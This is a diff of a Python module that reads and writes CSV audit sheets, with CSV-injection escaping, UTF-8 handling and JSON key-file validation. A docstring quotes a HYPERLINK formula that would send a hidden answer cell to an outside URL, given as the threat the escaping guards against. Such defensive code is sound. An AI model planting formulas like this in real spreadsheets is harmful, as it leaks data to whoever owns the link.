@@ -5,21 +5,33 @@ tab or a carriage return: an answer ``=HYPERLINK("http://...?ref="&C2, "see")`` 
 reference answer in C2 away) is written with a leading single quote, so that it shows as the text it
 is (OWASP's advice on CSV injection); so is a cell that begins with a quote, so that reading strips
 exactly the quotes writing added and gives back every cell as it was.
+
+Every audit reads its filled-in sheet and its key file here (`read_numbered`, `read_key`), and every
+problem with either is a `SheetError`: one line naming the file, and the row where there is one. A
+sheet is UTF-8, with or without the byte-order mark Excel writes ("CSV UTF-8"); any other encoding
+is refused, saying how to save it. Its cells may be as long as the toolkit writes them (a problem of
+150 KB), past the csv module's default limit of 131,072 characters.
 """
 
 from __future__ import annotations
 
 import csv
-from collections.abc import Iterable, Iterator, Sequence
+import io
+import json
+from collections.abc import Iterable, Sequence
 from pathlib import Path
+from typing import Any
+
+from pydantic import BaseModel, ValidationError
 
 _FORMULA = ("=", "+", "-", "@", "\t", "\r")
+_QUOTE = "'"
+# a cell of any length the toolkit writes: the largest limit a C long takes on every platform
+FIELD_LIMIT = 2**31 - 1
 
 
 class SheetError(ValueError):
     """A filled-in sheet or its key file that cannot be read; the message names file and row."""
-
-_QUOTE = "'"
 
 
 def as_text(cell: object) -> str:
@@ -40,8 +52,58 @@ def write_rows(path: Path, header: Sequence[str], rows: Iterable[Sequence[object
         out.writerows([as_text(c) for c in row] for row in rows)
 
 
-def read_rows(path: Path) -> Iterator[dict[str, str]]:
-    """Each row of a sheet by its header's names, every cell as `as_text` was given it."""
-    with path.open(newline="", encoding="utf-8") as fh:
-        for row in csv.DictReader(fh):
-            yield {from_text(k): from_text(v or "") for k, v in row.items() if k is not None}
+def _text(path: Path, what: str) -> str:
+    """The file as text: UTF-8, a byte-order mark (Excel's "CSV UTF-8") dropped."""
+    try:
+        data = path.read_bytes()
+    except OSError as exc:
+        raise SheetError(f"{path}: cannot read the {what} ({exc.strerror or exc})") from None
+    try:
+        return data.decode("utf-8-sig")
+    except UnicodeDecodeError as exc:
+        raise SheetError(f"{path}: the {what} is not UTF-8 (byte 0x{data[exc.start]:02x} at offset {exc.start}); "
+                         "save it as \"CSV UTF-8\"") from None
+
+
+def read_numbered(path: Path, columns: Sequence[str]) -> list[tuple[int, dict[str, str]]]:
+    """Each row of a filled-in sheet with its spreadsheet row number (the header is row 1), by its
+    header's names, every cell as `as_text` was given it; a SheetError when a column of ``columns``
+    is not in its header, or the file is no CSV this reads."""
+    reader = csv.reader(io.StringIO(_text(path, "sheet"), newline=""))
+    limit = csv.field_size_limit(FIELD_LIMIT)  # the process's limit, given back after
+    try:
+        header = [from_text(h).strip() for h in next(reader, [])]
+        missing = [c for c in columns if c not in header]
+        if missing:
+            raise SheetError(f"{path}: its header has no column '{missing[0]}' (it has: "
+                             f"{', '.join(header) or 'nothing'}): is it this audit's sheet?")
+        # a row shorter than the header has its last cells empty; a blank row (a spreadsheet's last) is none
+        rows = [(n, {name: from_text(row[i]) if i < len(row) else "" for i, name in enumerate(header)})
+                for n, row in enumerate(reader, 2) if any(cell.strip() for cell in row)]
+    except csv.Error as exc:
+        raise SheetError(f"{path}:{reader.line_num}: not a CSV row ({exc})") from None
+    finally:
+        csv.field_size_limit(limit)
+    return rows
+
+
+def read_rows(path: Path) -> list[dict[str, str]]:
+    """Each row of a sheet by its header's names (`read_numbered` without the row numbers)."""
+    return [row for _, row in read_numbered(path, ())]
+
+
+def read_key(path: Path, shape: type[BaseModel]) -> dict[str, Any]:
+    """A sheet's key file (JSON) as it is, checked against ``shape`` (a model of the fields its audit
+    reads, strict: a number is no string); a SheetError naming the file, and the first field that is
+    wrong, otherwise."""
+    text = _text(path, "key file")
+    try:
+        shape.model_validate_json(text, strict=True)
+    except ValidationError as exc:
+        first = exc.errors()[0]
+        if first["type"] == "json_invalid":
+            raise SheetError(f"{path}: the key file is not JSON ({first['msg']})") from None
+        where = ".".join(str(part) for part in first["loc"])
+        raise SheetError(f"{path}: not this audit's key file ({where + ': ' if where else ''}"
+                         f"{first['msg'][0].lower() + first['msg'][1:]})") from None
+    return json.loads(text)
